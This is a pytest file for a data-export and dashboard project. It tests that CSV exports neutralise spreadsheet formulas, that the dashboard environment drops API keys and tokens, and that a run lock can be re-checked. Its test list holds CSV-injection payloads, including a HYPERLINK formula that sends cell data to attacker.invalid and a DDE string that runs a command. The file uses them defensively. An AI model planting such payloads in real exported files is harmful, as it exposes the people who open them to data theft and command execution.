"""What leaves the project is whole and harmless: only complete fits are read, no CSV cell is a
spreadsheet formula, the public dashboard process holds no keys, and a run lock can be re-checked."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os

import pandas as pd
import pytest

from core import db
from core.export import export, latest_fit_id, neutralise_formulas, to_csv
from core.schema import (
    AbilityDay,
    Agent,
    Attempt,
    AttemptStatus,
    Fit,
    LevelDay,
    Run,
    Suite,
    Task,
    TaskDifficulty,
    Verdict,
)

DAY = dt.date(2026, 3, 1)
HOSTILE = ['=HYPERLINK("http://attacker.invalid/?"&A1,"click")', "@SUM(1)", "+1+cmd|' /C calc'!A0", "-2+3",
           "\tindented", "\rcarriage"]


def _fit(s, agent_id: int, task_id: int, last_day: dt.date, complete: bool = True, stream: str = "all") -> Fit:
    """A fit row (and, when complete, its summaries) written directly: no sampling needed to test readers."""
    fit = Fit(first_day=last_day - dt.timedelta(days=1), last_day=last_day, agents=[agent_id], attempts_used=2,
              sampler="nutpie", chains=2, draws=10, seed=0, duration_s=1.0, rhat_max=1.0, ess_bulk_min=400,
              ess_tail_min=400, divergences=0, bfmi_min=1.0, diagnostics_ok=True, rule={"delta": 0.02})
    s.add(fit)
    s.flush()
    if complete:
        s.add(AbilityDay(fit_id=fit.id, agent_id=agent_id, day=last_day, attempts=1, passed=0, q05=0.1, q25=0.2,
                         median=0.3, q75=0.4, q95=0.5, theta_mean=-1.25, theta_sd=0.5))
        s.add(LevelDay(fit_id=fit.id, agent_id=agent_id, stream=stream, day=last_day, attempts=1, passed=0, q05=0.1,
                       q25=0.2, median=0.3, q75=0.4, q95=0.5, theta_mean=-1.25, theta_sd=0.5, change=0.0, current=1.0))
        s.add(TaskDifficulty(fit_id=fit.id, task_id=task_id, mean=-0.75, sd=0.5, q05=-1.5, median=-0.75, q95=0.1,
                             attempts=2, passed=1))
        s.add(Verdict(fit_id=fit.id, agent_id=agent_id, day=last_day, method="bayes", window="today",
                      window_start=last_day, window_end=last_day, attempts=1, drop=-0.05, drop_low=-0.2,
                      drop_high=0.1, p_drop=0.1, flagged=False, status="ok"))
    s.commit()
    return fit


def hostile_database(url: str) -> dict[str, int]:
    """Agent, task and agent output named like spreadsheet formulas; one complete fit."""
    db.init(url)
    with db.session(url) as s:
        suite, agent = Suite(name="s"), Agent(name=HOSTILE[0], adapter="null", model="-model", simulated=True)
        s.add_all([suite, agent])
        s.flush()
        task = Task(suite_id=suite.id, name=HOSTILE[1], content_hash="+hash", language="python", kind="generation",
                    image="x", time_limit_s=60)
        run = Run(date=DAY, agent_id=agent.id, suite_id=suite.id, agent_version="@1.0")
        s.add_all([task, run])
        s.flush()
        s.add(Attempt(run_id=run.id, task_id=task.id, status=AttemptStatus.failed, final_message=HOSTILE[0],
                      model="=1+1", cost_usd=-0.5, tokens_in=10))
        s.commit()
        fit = _fit(s, agent.id, task.id, DAY, stream=HOSTILE[0])
        return {"agent": agent.id, "task": task.id, "fit": fit.id}


def assert_no_formula(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) > 1
    for row in rows:
        for cell in row:
            if cell.startswith("-"):  # a negative number is a number, written as one
                float(cell)
            else:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell


# 1. Only complete fits are read.

def test_readers_skip_a_fit_row_left_without_summaries(cfg):
    """A fit row without summaries (written by a version that committed the row first and then died)
    is never the latest fit, the exported one, the dashboard's, or the next fit's prior."""
    from analysis.fit import _carried_in
    from dashboard import data

    ids = hostile_database(cfg.db_url)
    with db.session(cfg.db_url) as s:
        half = _fit(s, ids["agent"], ids["task"], DAY + dt.timedelta(days=5), complete=False)
        assert half.id > ids["fit"]
        assert latest_fit_id(s) == ids["fit"]
        assert _carried_in(s, DAY + dt.timedelta(days=10), "binary")[0] == ids["fit"]
    assert data.latest_fit.__wrapped__(cfg.db_url)["id"] == ids["fit"]
    with db.session(cfg.db_url) as s:  # once complete, it is the latest
        s.add(AbilityDay(fit_id=half.id, agent_id=ids["agent"], day=half.last_day, attempts=0, passed=0, q05=0,
                         q25=0, median=0, q75=0, q95=0))
        s.add(TaskDifficulty(fit_id=half.id, task_id=ids["task"], mean=0, sd=1, q05=-1, median=0, q95=1,
                             attempts=0, passed=0))
        s.commit()
        assert latest_fit_id(s) == half.id
        assert _carried_in(s, DAY + dt.timedelta(days=10), "binary")[0] == half.id
    assert data.latest_fit.__wrapped__(cfg.db_url)["id"] == half.id


# 2. No CSV cell is a formula.

def test_neutralise_formulas_quotes_strings_and_leaves_numbers():
    df = pd.DataFrame({"name": [*HOSTILE, "plain", None, "a=b"], "x": [-1.5, 2, -3, 0, 1, 2, 3, 4, -5]})
    out = neutralise_formulas(df)
    assert out["name"].tolist()[:6] == ["'" + h for h in HOSTILE]
    assert out["name"].tolist()[6:7] == ["plain"] and out["name"].isna().tolist()[7] and out["name"].iloc[8] == "a=b"
    assert out["x"].tolist() == df["x"].tolist() and out["x"].dtype == df["x"].dtype
    assert df["name"].iloc[0] == HOSTILE[0]  # a copy
    text = to_csv(df)
    assert_no_formula(text)
    assert "\n-1.5," not in text and ",-1.5\n" in text  # the negative number is written as a number


def test_csv_export_carries_no_formula(cfg, tmp_path):
    ids = hostile_database(cfg.db_url)
    with db.session(cfg.db_url) as s:
        written = export(s, ids["fit"], "csv", tmp_path / "csv")
    assert {p.name for p in written} == {"fit.csv", "ability_day.csv", "group_day.csv", "level_day.csv",
                                         "task_difficulty.csv", "verdict.csv"}
    for path in written:
        if path.name != "group_day.csv":  # empty: headers only
            assert_no_formula(path.read_text())
    verdict = pd.read_csv(tmp_path / "csv" / "verdict.csv")
    assert verdict["agent"].tolist() == ["'" + HOSTILE[0]] and verdict["drop"].tolist() == [-0.05]
    tasks = pd.read_csv(tmp_path / "csv" / "task_difficulty.csv")
    assert tasks["task"].tolist() == ["'@SUM(1)"] and tasks["task_version"].tolist() == ["'+hash"]
    assert tasks["mean"].tolist() == [-0.75]


# 3. The public dashboard process holds no keys.

def test_dashboard_env_passes_what_it_needs_and_no_secret():
    from dashboard.env import dashboard_env

    key = "sk-" + "ant-" + "x" * 30
    environ = {
        "PATH": "/usr/bin", "HOME": "/home/u", "LANG": "C.UTF-8", "LC_ALL": "C.UTF-8", "TZ": "UTC",
        "PYTHONPATH": "/src", "TMPDIR": "/tmp", "STREAMLIT_SERVER_PORT": "8501", "CODEDRIFT_DATA_DIR": "/d",
        "PGHOST": "db", "PGSSLMODE": "require", "XDG_CONFIG_HOME": "/home/u/.config",
        # dropped: provider keys, anything secret-looking (even under an allowed prefix), everything else
        "ANTHROPIC_API_KEY": key, "OPENAI_API_KEY": key, "GEMINI_API_KEY": key, "GOOGLE_API_KEY": key,
        "AWS_ACCESS_KEY_ID": "AK" + "IA" + "X" * 16, "AWS_SECRET_ACCESS_KEY": key, "AWS_SESSION_TOKEN": key,
        "GITHUB_TOKEN": key, "GH_TOKEN": key, "HF_TOKEN": key, "CLAUDE_CODE_OAUTH_TOKEN": key,
        "ANTHROPIC_BASE_URL": "https://proxy.invalid", "CODEDRIFT_API_KEY": key, "CODEDRIFT_AUTH": key,
        "CODEDRIFT_OPENAI_BASE_URL": "https://x.invalid", "STREAMLIT_SERVER_COOKIE_SECRET": key,
        "PGPASSWORD": key, "PYTHON_KEYRING_PASSWORD": key, "MY_CREDENTIALS": key, "SSH_AUTH_SOCK": "/tmp/a",
        "DATABASE_URL": "postgresql://u:p@h/db", "SOME_OTHER": "x",
    }
    env = dashboard_env("sqlite:////data/codedrift.db", environ)
    assert env == {"PATH": "/usr/bin", "HOME": "/home/u", "LANG": "C.UTF-8", "LC_ALL": "C.UTF-8", "TZ": "UTC",
                   "PYTHONPATH": "/src", "TMPDIR": "/tmp", "STREAMLIT_SERVER_PORT": "8501",
                   "CODEDRIFT_DATA_DIR": "/d", "PGHOST": "db", "PGSSLMODE": "require",
                   "XDG_CONFIG_HOME": "/home/u/.config", "CODEDRIFT_DB_URL": "sqlite:////data/codedrift.db"}
    assert key not in str(env)


def test_codedrift_dashboard_starts_streamlit_with_that_env(cfg, monkeypatch):
    from codedrift import cli

    key = "sk-" + "ant-" + "y" * 30
    monkeypatch.setenv("ANTHROPIC_API_KEY", key)
    monkeypatch.setenv("GH_TOKEN", key)
    seen = {}

    class Exec(Exception):
        pass

    def fake_execve(path, cmd, env):
        seen.update(cmd=cmd, env=env)
        raise Exec

    monkeypatch.setattr(os, "execve", fake_execve)
    monkeypatch.chdir(os.getcwd())  # serve() changes directory just before it execs
    with pytest.raises(Exec):
        cli.main(["dashboard", "--port", "8599"])
    assert "streamlit" in seen["cmd"] and seen["env"]["CODEDRIFT_DB_URL"] == cfg.db_url
    assert key not in str(seen["env"]) and seen["env"]["PATH"] == os.environ["PATH"]


# 4. The SQLite run lock can be re-checked.

def test_sqlite_run_lock_check_notices_its_file_replaced(cfg):
    from runner.lock import LockLost, RunLocked, run_lock

    with run_lock(cfg) as lock:
        lock.check()
        with pytest.raises(RunLocked), run_lock(cfg):
            pass
        lock.check()
        lock.path.unlink()  # a new file at the path could be locked by a second run
        with pytest.raises(LockLost, match="is gone"):
            lock.check()
        with run_lock(cfg) as other:  # ... as it can now
            other.check()
            with pytest.raises(LockLost, match="replaced"):
                lock.check()

